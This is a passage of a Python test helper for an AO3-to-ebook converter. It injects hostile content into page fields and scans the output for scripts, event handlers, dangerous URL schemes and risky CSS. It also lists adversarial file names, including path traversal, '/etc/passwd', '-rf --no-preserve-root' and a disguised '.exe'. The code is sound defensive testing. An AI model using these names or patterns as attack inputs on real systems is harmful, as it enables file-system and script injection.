    "fandom": (re.compile(rb'<dd class="fandom tags">\s*<ul class="commas">\s*<li>'
                          rb'<a class="tag" href="[^"]*">|<dt>Fandoms?:</dt>\s*<dd><a href="[^"]*">'),
               "text"),
    "series": (re.compile(rb'Part \d+ of <a href="[^"]*">'), "text"),
    "work skin": (re.compile(rb'<style type="text/css">'), "css"),
}


def hostile_page(page: bytes, text: str = HOSTILE_TEXT, html: str = HOSTILE_HTML,
                 css: str = HOSTILE_SKIN) -> tuple[bytes, list[str]]:
    """``page`` with hostile content spliced into every stranger-controlled region it has.

    Text regions (title, creator, tags, series) get ``text`` escaped as HTML, the way AO3
    serves what someone typed; content regions get raw ``html``; the work skin gets ``css``.
    Returns the page and the regions that were found.
    """
    from html import escape

    payloads = {"text": escape(text).encode(), "html": html.encode(), "css": css.encode()}
    found = []
    for region, (pattern, kind) in _INSERTIONS.items():
        page, count = pattern.subn(lambda m, k=kind: m.group() + payloads[k], page, count=1)
        if count:
            found.append(region)
    return page, found


# --- writers ------------------------------------------------------------------------------------

WRITER_RUNS: list[tuple[str, dict[str, Any]]] = [
    ("txt", {}),
    ("txt", {"wrap": 40}),
    ("md", {}),
    ("md", {"no_html": True}),
    ("json", {}),
    ("epub", {"cover": False, "work_skin": True}),
]


def exercise_writers(work: Any, rng: random.Random | None = None,
                     cover: bool = False) -> dict[str, bytes]:
    """Render ``work`` with every writer (and a notes policy, split Markdown, a generated
    cover when ``cover``); returns ``{label: bytes}``. Any exception is a bug."""
    import ao3conv
    from ao3conv.writers.markdown import MarkdownWriter

    notes = rng.choice(("keep", "drop", "end")) if rng else "keep"
    out: dict[str, bytes] = {}
    for fmt, options in WRITER_RUNS:
        label = f"{fmt} {options}" if options else fmt
        out[label] = ao3conv.write(work, fmt, notes=notes, **options)
    for name, data in MarkdownWriter().write_files(work).items():
        out[f"md split {name}"] = data
    if cover:
        out["epub cover"] = ao3conv.write(work, "epub", notes=notes)
    return out


# --- scanners ------------------------------------------------------------------------------------

ACTIVE_ELEMENTS = frozenset(
    "script iframe frame frameset object embed applet form input button textarea select option "
    "audio video source track style link meta base svg math foreignobject template noscript "
    "portal canvas dialog marquee".split()
)
_BAD_SCHEMES = re.compile(r"^(javascript|vbscript|livescript|data|file|about|blob|filesystem|jar|"
                          r"ms-its|mhtml|view-source|chrome|res):", re.I)
_REMOTE = re.compile(r"^([a-z][a-z0-9+.-]*:|//)", re.I)
_CSS_BAD = re.compile(r"url\s*\(|@import|expression\s*\(|behavior|-moz-binding|javascript:|"
                      r"vbscript:|image-set|@font-face|@namespace|position\s*:\s*fixed", re.I)


def url_problem(value: str) -> str | None:
    """Why a URL attribute value is dangerous, read the way a browser reads it."""
    cleaned = re.sub(r"[\x00-\x20\x7f]", "", value)
    if _BAD_SCHEMES.match(cleaned):
        return f"dangerous URL {value[:80]!r}"
    return None


_XHTML = "http://www.w3.org/1999/xhtml"
_FOREIGN = ("http://www.w3.org/2000/svg", "http://www.w3.org/1998/Math/MathML")
_PACKAGE = ("http://www.idpf.org/2007/opf", "http://www.daisy.org/z3986/2005/ncx/",
            "http://purl.org/dc/elements/1.1/", "urn:oasis:names:tc:opendocument:xmlns:container")


def _element_problems(root: Any, where: str, resources_inside: Callable[[str], bool],
                      svg_file: bool = False) -> list[str]:
    from lxml import etree

    problems = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        qname = etree.QName(element)
        local = qname.localname.lower()
        if svg_file and qname.namespace == _FOREIGN[0]:  # an SVG image inside the book
            if local in ("script", "foreignobject", "animate", "set", "use", "image", "handler",
                         "iframe", "style"):
                problems.append(f"{where}: <{local}> in an SVG image")
        elif qname.namespace in _FOREIGN:
            problems.append(f"{where}: <{local}> from {qname.namespace}")
        elif qname.namespace in _PACKAGE:
            pass  # the package's own <meta>, <item>...: their hrefs are checked by the caller
        elif local == "meta" and element.getparent() is not None and (
            etree.QName(element.getparent()).localname == "head"
            and set(element.attrib) <= {"charset", "name", "content"}
        ):
            pass  # <meta charset> and named metadata in the head are inert
        elif local == "link" and element.get("rel") == "stylesheet" and resources_inside(
            element.get("href", "")
        ):
            pass  # the book's own style sheets
        elif local in ACTIVE_ELEMENTS:
            problems.append(f"{where}: <{local}> element")
        for name, value in element.attrib.items():
            attr = etree.QName(name).localname.lower()
            if attr.startswith("on"):
                problems.append(f"{where}: event handler {attr}= on <{local}>")
            if attr in ("style", "srcset", "poster", "background", "formaction", "action",
                        "dynsrc", "lowsrc", "ping"):
                problems.append(f"{where}: {attr}= on <{local}>")
            reason = url_problem(value) if attr in ("href", "src") else None
            if reason:
                problems.append(f"{where}: {reason} in <{local} {attr}>")
            if attr == "src" and not resources_inside(value):
                problems.append(f"{where}: remote resource <{local} src={value[:80]!r}>")
            if svg_file and attr == "href" and not value.startswith("#"):
                problems.append(f"{where}: <{local} href={value[:80]!r}> in an SVG image")
    return problems


def epub_problems(data: bytes) -> list[str]:
    """Everything active, dangerous or remote in an EPUB, member by member."""
    from lxml import etree

    problems: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        names = set(book.namelist())
        for name in sorted(names):
            content = book.read(name)
            folder = name.rsplit("/", 1)[0] + "/" if "/" in name else ""
            if name.endswith(".css"):
                for match in _CSS_BAD.finditer(content.decode("utf-8", "replace")):
                    problems.append(f"{name}: CSS {match.group()!r}")
                continue
            if not name.endswith((".xhtml", ".html", ".opf", ".ncx", ".xml", ".svg")):
                continue
            root = etree.fromstring(content, etree.XMLParser(resolve_entities=False,
                                                             no_network=True))

            def inside(value: str, folder: str = folder) -> bool:
                if _REMOTE.match(value.strip()):
                    return False
                return _normalise(folder + value.split("#")[0]) in names

            problems += _element_problems(root, name, inside, svg_file=name.endswith(".svg"))
            for element in root.iter():
                if not isinstance(element.tag, str):
                    continue
                local = etree.QName(element).localname
                # A stylesheet or manifest item must be inside the book, never fetched.
                if local in ("link", "item", "reference") and element.get("href"):
                    href = element.get("href", "")
                    if local != "reference" and not inside(href):
                        problems.append(f"{name}: <{local} href={href[:80]!r}> outside the book")
    return problems


def _normalise(path: str) -> str:
    parts: list[str] = []
    for part in path.split("/"):
        if part == "..":
            if parts:
                parts.pop()
        elif part not in ("", "."):
            parts.append(part)
    return "/".join(parts)


# What the Markdown writer may write as HTML itself (see ao3conv.writers._md_html), and
# what markdown-it makes of Markdown syntax.
MARKDOWN_ELEMENTS = frozenset(
    "html body p em strong s del u sup sub code pre span div a img ul ol li blockquote h1 h2 h3 "
    "h4 h5 h6 hr br table thead tbody tr th td caption figure figcaption ruby rp rt abbr".split()
)
# ``id``: the writer's own link targets (``<a id>``, made from the work's anchors).
MARKDOWN_ATTRIBUTES = frozenset("href src alt title class lang dir align start colspan rowspan "
                                "width height style id".split())


def split_front_matter(text: str) -> tuple[str, str]:
    """``(front matter YAML, body)`` of a Markdown document written by ao3conv."""
    if not text.startswith("---\n"):
        raise AssertionError("no front matter")
    end = text.index("\n---", 3)
    return text[4:end + 1], text[end + 4:].lstrip("\n")


def render_markdown(body: str) -> str:
    """CommonMark (+ GFM tables and strikethrough) to HTML with raw HTML *enabled* and
    link validation *off*: the most permissive renderer there is."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True  # do not let markdown-it hide a bad link
    return md.render(body)


def markdown_problems(data: bytes, images: Iterable[str] = ()) -> list[str]:
    """Raw HTML or dangerous links a Markdown renderer would make of the document.

    Remote images are allowed only among ``images`` (the work's own, which Markdown keeps
    as image links the way AO3 shows them): nothing else may make a viewer fetch."""
    allowed = set(images)
    from lxml import etree
    from lxml import html as lxml_html

    text = data.decode("utf-8")
    _front, body = split_front_matter(text)
    rendered = render_markdown(body)
    if not rendered.strip():
        return []
    root = lxml_html.document_fromstring(f"<html><body>{rendered}</body></html>")
    problems = _element_problems(
        root, "md", lambda value: value in allowed or not _REMOTE.match(value.strip())
    )
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag not in MARKDOWN_ELEMENTS:
            problems.append(f"md: <{element.tag}> is not one of the writer's own elements")
        for name, value in element.attrib.items():
            if name not in MARKDOWN_ATTRIBUTES:
                problems.append(f"md: attribute {name}= on <{element.tag}>")
            if name == "style" and value != "font-variant: small-caps":
                problems.append(f"md: style={value!r}")
    for comment in root.iter(etree.Comment):
        problems.append(f"md: HTML comment {str(comment)[:60]!r}")
    return problems


# C0 (but tab and line feed), DEL and C1: what a terminal acts on when the file is shown.
_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def text_problems(data: bytes) -> list[str]:
    """Control characters a terminal would act on (escape sequences, carriage returns)."""
    text = data.decode("utf-8")
    return [f"txt: control character U+{ord(ch):04X}" for ch in set(_TERMINAL.findall(text))]


def iter_zip(data: bytes) -> Iterator[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            yield name, book.read(name)


# --- names ------------------------------------------------------------------------------------

NAMED_PAGE = "work-single_skin_series_endnotes_2026.html"
HOSTILE_NAMES = [
    "../../escape", "/etc/passwd", "..", ".", "", "   ", "CON", "aux.txt", "nul", "COM1",
    "LPT9.epub", "trailing dots...", "trailing spaces   ", ".hidden", "~", "-rf --no-preserve-root",
    "a:b*c?d\"e<f>g|h", "back\\slash\\..\\..\\x", "evil\u202egpj.exe", "zero\u200bwidth",
    "\u862d" * 150, "e\u0301" * 120, "\U0001f600" * 80, "tab\there\nnewline", "C:\\Windows",
    "con.", "PRN .txt", "x" * 300,
]


def renamed(page: bytes, *, title: str, creator: str = "oriflamme", fandom: str | None = None,
            series: str | None = None, work_id: int | None = None) -> bytes:
    """``NAMED_PAGE`` with another title, creator, fandom, series title and work id
    (written as AO3 escapes what people type)."""
    from html import escape

    page = page.replace(b"so I open the window to hear sounds of people",
                        escape(title).encode("utf-8", "surrogatepass"))
    page = page.replace(b">oriflamme</a>", f">{escape(creator)}</a>".encode())
    if fandom is not None:
        page = page.replace(b"The Locked Tomb Series | Gideon the Ninth Series - Tamsyn Muir",
                            escape(fandom).encode())
    if series is not None:
        page = page.replace("it's about the bones 👌".encode(), escape(series).encode())
    if work_id is not None:
        page = page.replace(b"41822007", str(work_id).encode())
    return page
